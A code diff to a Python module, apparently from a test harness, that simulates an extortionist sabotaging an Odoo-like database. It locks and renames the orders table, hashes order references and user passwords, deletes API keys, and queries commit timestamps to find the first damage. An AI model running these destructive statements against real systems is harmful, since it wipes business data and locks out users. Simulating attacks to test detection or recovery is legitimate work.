@@ -1,8 +1,8 @@
 """What an extortionist does once he has the application's database role and its host.
 
-Rows first: every log-in is replaced and references of orders become unreadable, in one
-transaction, which replicates. Then each document on disk is overwritten. The platform goes on
-running; it just cannot be used any more. Platform-independent: a DSN and a folder.
+Rows first: every log-in is replaced, references of orders become unreadable and their table goes
+by another name, in one transaction, which replicates. Then each document on disk is overwritten.
+The platform goes on running; it just cannot be used any more. Platform-independent: a DSN and a folder.
 """
 
 from __future__ import annotations
@@ -15,25 +15,23 @@ import psycopg
 
 from harness.platforms.capabilities import Filestore
 
-MARK = "locked:"
+_ALONE = (
+    "LOCK TABLE sale_order IN ACCESS EXCLUSIVE MODE"  # first: nobody waits for us who we wait for
+)
 _LOCK_ORDERS = """
-UPDATE sale_order SET client_order_ref = 'locked:' || md5(coalesce(client_order_ref, ''))
-WHERE client_order_ref NOT LIKE 'locked:%' OR client_order_ref IS NULL"""
+UPDATE sale_order SET client_order_ref = 'locked:' || md5(coalesce(client_order_ref, ''))"""
+_RENAME = "ALTER TABLE sale_order RENAME TO sale_order_locked"
 _LOCK_LOG_INS = """
 UPDATE res_users SET password = 'locked:' || md5(coalesce(password, '')) WHERE id > 1"""
 _DROP_KEYS = "DELETE FROM res_users_apikeys"
 _IS_LOCKED = """
-SELECT EXISTS (SELECT FROM sale_order WHERE client_order_ref LIKE 'locked:%')
+SELECT to_regclass('sale_order_locked') IS NOT NULL
     OR EXISTS (SELECT FROM res_users WHERE password LIKE 'locked:%')"""
 _FIRST = """
-SELECT xid::text, to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') FROM (
-    SELECT xmin AS xid, pg_xact_commit_timestamp(xmin) AS at FROM sale_order
-    WHERE client_order_ref LIKE 'locked:%'
-    UNION ALL
-    SELECT xmin, pg_xact_commit_timestamp(xmin) FROM res_users WHERE password LIKE 'locked:%'
-) AS damaged WHERE at IS NOT NULL ORDER BY at, xid::text::bigint LIMIT 1"""
-
-
+SELECT xmin::text, to_char(
+    pg_xact_commit_timestamp(xmin) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')
+FROM res_users WHERE password LIKE 'locked:%' AND pg_xact_commit_timestamp(xmin) IS NOT NULL
+ORDER BY pg_xact_commit_timestamp(xmin), xmin::text::bigint LIMIT 1"""
 _DOCUMENTS = """
 SELECT store_fname, xmin::text, to_char(
     pg_xact_commit_timestamp(xmin) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')
@@ -52,9 +50,11 @@ class FirstHarm:
 def encrypt_rows(dsn: str) -> tuple[int, int]:
     """Orders and log-ins that are unreadable now: locked out and encrypted in one transaction."""
     with psycopg.connect(dsn, connect_timeout=5) as database:
+        database.execute(_ALONE)
         log_ins = database.execute(_LOCK_LOG_INS).rowcount
         database.execute(_DROP_KEYS)
         orders = database.execute(_LOCK_ORDERS).rowcount
+        database.execute(_RENAME)
     return orders, log_ins
 
 
